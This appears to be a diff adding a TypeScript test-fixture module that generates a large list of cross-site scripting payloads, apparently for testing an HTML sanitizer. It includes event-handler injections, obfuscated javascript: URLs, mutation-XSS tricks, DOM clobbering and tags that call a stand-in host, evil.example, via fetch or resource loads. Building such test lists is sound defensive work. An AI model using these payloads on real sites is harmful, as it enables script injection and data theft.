@@ -1,0 +1,110 @@
+/** What runs when a payload gets through: it is seen as a message, a mark on the window, or a request to elsewhere. */
+const RUN = "fetch('//evil.example/x');window.hacked=1;alert(1)";
+
+const HANDLERS = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onfocus',
+  'onmouseover',
+  'onanimationstart',
+  'ontoggle',
+  'onpointerrawupdate',
+];
+const ELEMENTS = [
+  'img src=x',
+  'svg',
+  'body',
+  'input autofocus',
+  'video src=x',
+  'details open',
+  'marquee',
+  'b style=animation-name:x',
+];
+
+const handlers = ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}="${RUN}">`));
+
+const SCHEMES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java&#x73;cript:${RUN}`,
+  `java\tscript:${RUN}`,
+  ` javascript:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `vbscript:msgbox(1)`,
+  `blob:null/1`,
+  `file:///etc/passwd`,
+  `view-source:javascript:1`,
+];
+
+const schemes = SCHEMES.flatMap((address) => [
+  `<a href="${address}">x</a>`,
+  `<a href='${address}' target=_self>x</a>`,
+  `<iframe src="${address}"></iframe>`,
+  `<form action="${address}"><button>x</button></form>`,
+  `<object data="${address}"></object>`,
+]);
+
+const OTHERS = [
+  `<script>${RUN}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script/x>${RUN}</script>`,
+  `<<script>${RUN}//<</script>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="//evil.example/x.js"/></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x></svg>`,
+  `<svg><set attributeName=href to="javascript:${RUN}"></svg>`,
+  `<svg><use href="//evil.example/x.svg#a"></svg>`,
+  `<svg><image href="//evil.example/x.png"></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
+  `<math href="javascript:${RUN}">x</math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
+  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
+  `<template><script>${RUN}</script></template>`,
+  `<template shadowrootmode=open><script>${RUN}</script></template>`,
+  `<xmp><p title="</xmp><img src=x onerror='${RUN}'>">`,
+  `<textarea></textarea><img src=x onerror="${RUN}">`,
+  `<title></title><img src=x onerror="${RUN}">`,
+  `<style>@import '//evil.example/x.css';</style>`,
+  `<style>*{background:url(//evil.example/x)}</style>`,
+  `<p style="background:url(//evil.example/x)">x</p>`,
+  `<p style="width:expression(${RUN})">x</p>`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<link rel=preload as=image href=//evil.example/x.png>`,
+  `<meta http-equiv=refresh content="0;url=//evil.example">`,
+  `<base href=//evil.example/>`,
+  `<img src=//evil.example/x.png>`,
+  `<img srcset="//evil.example/x.png 1x">`,
+  `<picture><source srcset=//evil.example/x.png><img></picture>`,
+  `<audio src=//evil.example/x.mp3 autoplay></audio>`,
+  `<video poster=//evil.example/x.png></video>`,
+  `<embed src=//evil.example/x>`,
+  `<object data=//evil.example/x></object>`,
+  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
+  `<frameset><frame src="javascript:${RUN}"></frameset>`,
+  `<portal src=//evil.example></portal>`,
+  `<isindex action=javascript:${RUN} type=image>`,
+  `<form id=document><input name=cookie></form>`,
+  `<a id=hacked>x</a><a id=hacked name=x href=1>y</a>`,
+  `<img name=body><img name=head>`,
+  `<input type=image src=//evil.example/x.png>`,
+  `<button formaction="javascript:${RUN}">x</button>`,
+  `<div data-bind="${RUN}" v-html="'<img src=x>'" ng-app>{{constructor.constructor('${RUN}')()}}</div>`,
+  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `<!--><img src=x onerror="${RUN}">-->`,
+  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
+  `<?xml version="1.0"?><script>${RUN}</script>`,
+  `<p title="\\"><img src=x onerror=${RUN}>">x</p>`,
+  `<x onclick="${RUN}" contenteditable autofocus onfocus="${RUN}">x`,
+  `<dialog open onclose="${RUN}"><form method=dialog><button autofocus>x</button></form></dialog>`,
+  `<select><option><style></option></select><img src=x onerror="${RUN}"></style>`,
+];
+
+/** Attempts to run code, or to ask something of another host, from a text that an entity gives. */
+export const INJECTION_PAYLOADS: readonly string[] = [...handlers, ...schemes, ...OTHERS];
